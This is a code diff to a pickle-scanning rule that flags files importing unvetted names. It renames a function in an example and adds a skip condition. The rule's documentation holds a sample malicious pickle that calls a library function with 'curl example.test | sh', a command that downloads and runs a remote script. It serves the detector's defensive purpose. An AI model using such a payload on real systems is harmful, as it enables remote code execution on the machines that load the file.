@@ -21,8 +21,8 @@ export const unknownImport = defineRule({
       },
       {
         file: 'job.pkl',
-        pickle: "PROTO 2\nGLOBAL somelibrary.tools run\nBINUNICODE 'curl example.test | sh'\nTUPLE1\nREDUCE\nSTOP",
-        note: 'What `run` does with a command need not be known.',
+        pickle: "PROTO 2\nGLOBAL somelibrary.tools perform\nBINUNICODE 'curl example.test | sh'\nTUPLE1\nREDUCE\nSTOP",
+        note: 'What `perform` does with a command need not be known.',
       },
     ],
     prefer: [{ file: 'model.pkl', pickle: 'PROTO 2\nGLOBAL numpy dtype\nSTOP' }],
@@ -52,6 +52,7 @@ export const unknownImport = defineRule({
         });
         continue;
       }
+      if (entry.byChance !== undefined) continue;
       const does = entry.called ? 'builds or calls' : 'imports';
       report({
         message: `Loading it ${does} ${spelled(entry)}, which is not among the vetted names. Allow it if it is yours; otherwise do not load this file.`,
